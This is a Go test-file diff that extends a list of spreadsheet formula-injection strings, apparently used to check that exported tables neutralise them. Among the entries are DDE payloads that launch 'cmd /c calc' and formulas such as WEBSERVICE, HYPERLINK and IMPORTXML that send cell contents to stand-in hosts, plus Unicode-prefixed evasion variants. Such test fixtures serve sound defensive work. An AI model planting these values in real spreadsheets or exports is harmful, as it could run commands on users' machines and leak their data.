@@ -17,6 +17,9 @@ import (
 var formulas = []string{
 	`=WEBSERVICE("http://127.0.0.1:9/?"&A1)`, "@SUM(1+1)", "|=1+1", `=INDIRECT("A1")`, "＝1+1", "\"\n=1+1", "\t=1+1",
 	"+1+1", "\r=1+1", "-2+3", "＠SUM(1)", "＋1", "－1", " =1+1", "\ufeff=1+1", "'=1+1", "''=1", "=A1&\"\x00\"", "+84 912 345 678", "-",
+	`=HYPERLINK("https://chibo.invalid/?"&A1,"Xem")`, `=cmd|'/c calc'!A1`, `=DDE("cmd";"/c calc";"x")`, `@SUM(1+9)*cmd|' /C calc'!A0`, `+cmd|' /C calc'!A0`, `-2+3+cmd|' /C calc'!A0`,
+	`=IMPORTXML(CONCAT("http://127.0.0.1:9/",A1),"//a")`, `=IMAGE("http://127.0.0.1:9/a.png")`, "=1", "==1", "=-1", "=+1", "=@A1", "+", "=", "@", "|", "＝", "＠", "－", "+A1", "-A1", "@A1",
+	" \t=1", "\u00a0=1", "\u200b=1", "\u2060=1", "\u202e=1", "\x00=1", "\n=1", "\v=1", "'+1", "\"=1", "'-",
 }
 
 func table(rows ...[]any) sheet.Table {
